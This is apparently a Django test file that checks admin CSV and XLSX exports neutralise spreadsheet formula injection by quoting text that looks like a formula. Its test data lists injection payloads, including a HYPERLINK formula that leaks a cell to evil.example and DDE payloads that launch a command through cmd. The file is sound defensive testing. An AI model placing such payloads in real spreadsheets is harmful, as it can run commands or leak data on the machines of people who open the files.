"""Exports open safely in spreadsheets: text that starts like a formula stays text (OWASP CSV injection)."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.core.exceptions import ImproperlyConfigured
from django.db.models import Value
from django.urls import reverse
from import_export import fields, resources, widgets

from portfolio.models import Certification, Firm
from portfolio.resources import FirmResource, SafeResource
from tests.factories import CertificationFactory, FirmFactory, ResidencyFactory
from tests.portfolio.admin.forms import export_data

pytestmark = pytest.mark.django_db

CSV, XLSX = 0, 1

# Each starts with a character a spreadsheet reads as the start of a formula (or, tab and
# carriage return, as a way to smuggle one past a naive check); the full-width forms too.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


def _export(client, model, file_format, query=""):
    url = reverse(f"admin:portfolio_{model}_export") + query
    response = client.post(url, export_data(client.get(url), file_format))
    assert response.status_code == 200
    return response.content


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_rows(content: bytes) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def dangerous_firms(portfolio):
    firms = []
    for n, name in enumerate(DANGEROUS):
        firm = FirmFactory(name=name, name_en=f"=Firm{n}+1", website="")
        ResidencyFactory(firm=firm, incubator=portfolio.incubator)
        firms.append(firm)
    return firms


def test_firm_export_as_xlsx_writes_formula_like_text_as_quoted_text(
    admin_client, portfolio, dangerous_firms
):
    rows = _xlsx_rows(_export(admin_client, "firm", XLSX, f"?incubator={portfolio.incubator.pk}"))
    names = {row["name"].value: row for row in rows}
    for name in DANGEROUS:
        row = names["'" + name.replace("\r", "\n")]  # XML reads a carriage return as \n
        cell, english = row["name"], row["name_en"]
        assert cell.data_type == "s"
        assert english.data_type == "s" and english.value.startswith("'=Firm")
    plain = names[portfolio.firm.name]["name"]  # ordinary text is left as it is
    assert plain.data_type == "s"


def test_firm_export_as_csv_prefixes_formula_like_text_with_a_quote(admin_client, portfolio, dangerous_firms):
    rows = _csv_rows(_export(admin_client, "firm", CSV, f"?incubator={portfolio.incubator.pk}"))
    names = sorted(row["name"] for row in rows)
    assert names == sorted(["'" + name for name in DANGEROUS] + [portfolio.firm.name])
    assert all(row["name_en"].startswith("'=Firm") for row in rows if row["name"] != portfolio.firm.name)


def test_certification_export_neutralises_every_text_column(admin_client, portfolio):
    firm = FirmFactory(name="@firm")
    ResidencyFactory(firm=firm, incubator=portfolio.incubator)
    CertificationFactory(firm=firm, number="=1+1", issuer="+issuer", notes="－note")
    query = f"?firm__id__exact={firm.pk}"
    [row] = _xlsx_rows(_export(admin_client, "certification", XLSX, query))
    for column, value in {
        "firm": "'@firm",
        "number": "'=1+1",
        "issuer": "'+issuer",
        "notes": "'－note",
    }.items():
        assert (row[column].data_type, row[column].value) == ("s", value)
    [row] = _csv_rows(_export(admin_client, "certification", CSV, query))
    assert (row["firm"], row["number"], row["issuer"], row["notes"]) == (
        "'@firm",
        "'=1+1",
        "'+issuer",
        "'－note",
    )


class _WithNumbers(FirmResource):
    delta = fields.Field(attribute="delta", column_name="delta", widget=widgets.IntegerWidget())

    class Meta(FirmResource.Meta):
        fields = ("name", "delta")


def test_negative_numbers_in_numeric_columns_stay_numbers():
    FirmFactory(name="-1 Firm")
    queryset = Firm.objects.annotate(delta=Value(-5))
    from import_export.formats.base_formats import CSV as CSVFormat
    from import_export.formats.base_formats import XLSX as XLSXFormat

    xlsx = XLSXFormat().export_data(_WithNumbers().export(queryset, force_native_type=True))
    [row] = _xlsx_rows(xlsx)
    assert (row["delta"].data_type, row["delta"].value) == ("n", -5)
    assert row["name"].value == "'-1 Firm"
    [row] = _csv_rows(CSVFormat().export_data(_WithNumbers().export(queryset)).encode())
    assert (row["delta"], row["name"]) == ("-5", "'-1 Firm")


def test_every_admin_export_goes_through_the_safe_resource():
    resources = [
        resource
        for model_admin in admin.site._registry.values()
        for resource in getattr(model_admin, "resource_classes", [])
    ]
    assert resources  # the firm and certification admins export
    assert all(issubclass(resource, SafeResource) for resource in resources)
    assert Certification in {resource._meta.model for resource in resources}


def test_the_admin_refuses_to_export_through_a_resource_that_is_not_safe(admin_client, monkeypatch):
    class Unsafe(resources.ModelResource):
        class Meta:
            model = Firm

    monkeypatch.setattr(admin.site._registry[Firm], "resource_classes", [Unsafe])
    with pytest.raises(ImproperlyConfigured):
        admin_client.get(reverse("admin:portfolio_firm_export"))
